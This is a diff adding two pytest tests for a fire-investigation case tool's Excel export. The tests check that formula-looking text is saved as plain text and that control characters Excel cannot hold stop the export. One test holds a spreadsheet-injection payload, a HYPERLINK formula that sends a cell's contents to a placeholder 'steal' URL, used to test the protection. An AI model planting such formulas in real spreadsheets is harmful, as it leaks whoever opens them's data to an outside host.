@@ -120,3 +120,43 @@ def test_export_problems_are_messages(workstation, varied_cases, tmp_path):
     os.umask(umask)
     # The same permissions as any file the user saves (not the owner-only mode of a temporary file).
     assert (tmp_path / "cases.xlsx").stat().st_mode & 0o777 == 0o666 & ~umask
+
+
+def test_no_exported_cell_is_a_formula_and_text_comes_back_as_typed(db, workstation, second_db, actor, tmp_path):
+    """A summary beginning with "=" is text in the file (no formula runs on whoever opens it) and reads back whole."""
+    from fireinvest.services import cases
+    from tests.factories import make_draft
+
+    hostile = '=HYPERLINK("http://example.invalid/steal?"&A2,"点击查看")'
+    created = cases.create_case(workstation, make_draft(summary=hostile, unit_name="=1+2", cause_finding="+SUM(1)"))
+    path = tmp_path / "cases.xlsx"
+    export_cases_file(workstation, path)
+    sheet = openpyxl.load_workbook(path)["案件"]
+    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
+    assert "f" not in kinds and kinds <= {"s", "n"}
+    import_cases_file(Workstation(second_db, actor), path)
+    ((facts, _staff, _grade),) = snapshot(second_db).values()
+    assert (facts.summary, facts.unit_name, facts.cause_finding) == (hostile, "=1+2", "+SUM(1)")
+    assert created.value.case_number in {row[0].value for row in sheet.iter_rows(min_row=2)}
+
+
+def test_a_stored_text_excel_cannot_hold_stops_the_export_naming_the_case(db, workstation, tmp_path):
+    """Text stored before the text rule refused control characters: the .xlsx export names the case and the field,
+    writes no file and shows no traceback; JSON still carries it."""
+    from sqlalchemy import text
+
+    from fireinvest.errors import FireInvestError
+    from fireinvest.services import cases
+    from tests.factories import make_draft
+
+    created = cases.create_case(workstation, make_draft()).value
+    with db.writing() as session:
+        session.execute(text("UPDATE fire_cases SET summary = :s"), {"s": "第一行\v第二行"})
+    with pytest.raises(FireInvestError, match=f"案件 {created.case_number} 的“简要案情”含有 Excel 不能保存的控制字符"):
+        export_cases_file(workstation, tmp_path / "cases.xlsx")
+    assert list(tmp_path.iterdir()) == [
+        p for p in tmp_path.iterdir() if p.suffix != ".xlsx" and "partial" not in p.name
+    ]
+    assert not (tmp_path / "cases.xlsx").exists()
+    export_cases_file(workstation, tmp_path / "cases.json")
+    assert "第一行\\u000b第二行" in (tmp_path / "cases.json").read_text("utf-8")
